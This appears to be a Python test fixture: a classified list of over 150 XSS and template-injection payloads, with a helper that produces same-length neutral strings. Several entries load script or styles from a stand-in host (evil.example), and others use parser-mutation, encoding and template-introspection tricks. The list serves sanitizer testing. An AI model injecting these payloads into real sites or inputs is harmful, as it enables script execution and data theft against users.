"""What has made other systems run somebody else's script, by class; more than 150 in all.

Each would, where it is not escaped, leave an element, an attribute or a dialog behind.
"""

_CALL = "alert(1)"
_HANDLED = ("img src=x onerror", "svg onload", "body onload",
            "input autofocus onfocus",
            "details open ontoggle", "video src=x onerror", "audio src=x onerror",
            "marquee onstart", "select autofocus onfocus", "iframe onload",
            "object data=x onerror", "p onpointerover", "xss contenteditable onblur",
            "button popovertarget=x onclick", "style onload",
            "link rel=stylesheet href=x onerror", "a href=# onclick", "form onsubmit",
            "textarea autofocus onfocus", "math onclick")  # fmt: skip
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "\x01javascript:",
            "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,", "blob:", "view-source:",
            "//evil.example/", "https:evil.example/", "jar:http://evil.example!/")  # fmt: skip

TAGS = [f"<{name}={_CALL}>" for name in _HANDLED] + [
    f"<script>{_CALL}</script>", f"<ScRiPt>{_CALL}</sCrIpT>", f"<script/x>{_CALL}</script >",
    "<script src=//evil.example></script>", f"<<script>{_CALL}//<</script>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<b x=1>bold</b>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<embed src=//evil.example>",
    "<object data=//evil.example>", "<link rel=import href=//evil.example>", "<plaintext>",
    "<xmp><p title='</xmp><img src=x>'>", "<template><img src=x></template>", "<!--<img src=x>-->",
    "<![CDATA[<img src=x>]]>", "<?php echo 1 ?>", "<%= 7*7 %>", "</main><h1 x=1>", "<portal src=x>",
    "</textarea><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>", "</script><img src=x onerror=alert(1)>",
]  # fmt: skip
ATTRIBUTES = [f"{q}{gap}{name}={_CALL}{gap}{q}"
              for q in ('"', "'", "`", '">')
              for gap, name in ((" ", "onfocus"), ("/", "onclick"), ("\n", "onload"),
                                (" ", "autofocus onfocus"), ("\t", "style"))]  # fmt: skip
ADDRESSES = [f"{scheme}{_CALL}" for scheme in _SCHEMES] + [
    f"<a href='{scheme}{_CALL}'>x</a>" for scheme in _SCHEMES[:8]
]
STRINGS = ["';alert(1);//", '";alert(1);//', "\\';alert(1);//", "\\u0027;alert(1)//",
           "`${alert(1)}`", "</script><script>alert(1)</script>", "-alert(1)-", "'+alert(1)+'",
           "\u2028alert(1)//",
           "\u2029alert(1)//", "//%0aalert(1)", "/*</script><img src=x>*/",
           "]]>;alert(1)"]  # fmt: skip
DRAWINGS = ["<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=javascript:alert(1)><text>x",
            "<svg><use href=//evil.example#x>", "<svg><animate onbegin=alert(1) attributeName=x>",
            "<svg><set onend=alert(1)>", "<svg><foreignObject><img src=x></foreignObject></svg>",
            "<svg><image href=x onerror=alert(1)>", "<svg><style>*{x:y}</style></svg>",
            "<svg><title><img src=x onerror=alert(1)></title></svg>",
            "<svg/onload=alert(1)//", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]>",
            "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>"]  # fmt: skip
TEMPLATES = ["{{7*19139}}", "{{ config }}", "{% for x in [1] %}x{% endfor %}", "{# x #}",
             "${7*19139}", "#{7*19139}", "<%= 7*19139 %>", "{{''.__class__.__mro__}}",
             "{{request.environ}}",
             "{{ self.__init__ }}", "%(a)s", "{0.__class__}", "{{'<img src=x>'|safe}}",
             "{% autoescape false %}<img src=x>{% endautoescape %}"]  # fmt: skip
STYLES = ["<style>*{display:none}</style>", "<p style=position:fixed>x", "</style><img src=x>",
          "<style>@import'//evil.example';</style>", "x;background:url(//evil.example)",
          "expression(alert(1))", "<div style='x:expression(alert(1))'>", "}*{color:red}",
          "<link rel=stylesheet href=//evil.example>", "\\3c img src=x\\3e"]  # fmt: skip
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;img src=x&amp;gt;", "&#60;img src=x&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;", "%3Cimg src=x onerror=alert(1)%3E",
    "\\x3cimg src=x onerror=alert(1)\\x3e", "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\u02c2img src=x\u02c3", "<a\u00a0href=x>", "<img/src/onerror=alert(1)>", "<\u200bimg src=x>",
    "<p id=cookie>", "<form id=document><input name=cookie>", "<a id=x><a id=x name=y>",
    "<table><td background=javascript:alert(1)>", "<b <script>alert(1)</script>0",
    "<img src=`x`onerror=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<input type=image src=x onerror=alert(1)>", "<a title='&quot; onclick=alert(1) x=&quot;'>",
]  # fmt: skip
CLASSES = {
    "tags": TAGS,
    "attributes": ATTRIBUTES,
    "addresses": ADDRESSES,
    "strings": STRINGS,
    "drawings": DRAWINGS,
    "templates": TEMPLATES,
    "styles": STYLES,
    "mutations": MUTATIONS,
}
PAYLOADS = [payload for kind in CLASSES.values() for payload in kind]


def harmless(payload: str) -> str:
    """As long, with the same gaps, and nothing in it that means anything to a browser."""
    return "".join(letter if letter.isspace() else "x" for letter in payload)
